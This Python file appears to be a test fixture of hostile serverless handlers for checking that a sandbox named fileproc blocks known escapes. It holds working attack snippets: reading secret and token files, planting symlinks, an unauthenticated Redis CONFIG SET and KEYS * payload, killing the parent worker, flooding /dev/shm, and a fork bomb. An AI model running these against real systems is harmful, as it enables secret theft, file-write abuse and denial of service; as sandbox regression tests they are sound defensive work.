"""A hostile function: one handler per way out of the sandbox that was once found open.

Each does its attack plainly and lets what stops it raise, so the job
records fileproc's reason; what it returns is what got through. Targets come
from its environment (``TARGET``, ``LINK``): the test knows the host's paths.
"""

import os
import signal
import socket
import time


def read_secret(event, context):
    """Read a file of fileproc's: tokens, the state database, the config file."""
    with open(os.environ["TARGET"], "rb") as secret:
        return {"stolen": secret.read(200).decode(errors="replace")}


def plant_link(event, context):
    """Plant a link in a bucket, to a file it may not read, for a built-in function to follow."""
    os.symlink(os.environ["TARGET"], os.environ["LINK"])
    return {"planted": os.environ["LINK"]}


def broker(event, context):
    """Talk to fileproc's broker with no password: CONFIG SET would let it write files anywhere."""
    target = os.environ["TARGET"]
    if target.startswith("/"):
        sock = socket.socket(socket.AF_UNIX)
        sock.settimeout(3)
        sock.connect(target)
    else:
        host, port = target.rsplit(":", 1)
        sock = socket.create_connection((host, int(port)), timeout=3)
    with sock:
        sock.sendall(b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n*1\r\n$4\r\nPING\r\n"
                     b"*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n")
        time.sleep(0.3)
        return {"answer": sock.recv(4096).decode(errors="replace")}


def kill_worker(event, context):
    """Kill the worker that runs it, and every step that worker runs."""
    os.kill(os.getppid(), signal.SIGKILL)
    return {"killed": os.getppid()}


def fill_shm(event, context):
    """Leave data in /dev/shm, past its memory limit and its life, for another function to find."""
    path = f"/dev/shm/fileproc-escape-{context.aws_request_id}"
    with open(path, "wb") as out:
        for _ in range(32):
            out.write(b"\1" * (1 << 20))
    return {"left": path}


def fork_loop(event, context):
    """Start processes until something stops it (a fork bomb that ends by itself)."""
    made = 0
    try:
        for _ in range(5000):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            made += 1
    except OSError as exc:
        return {"made": made, "stopped": exc.strerror}
    return {"made": made, "stopped": None}


def normal(event, context):
    """What a tenant's function does: read its input, write its output."""
    data = context.input.open().read()
    context.output.put("copy.bin", data)
    return {"bytes": len(data)}
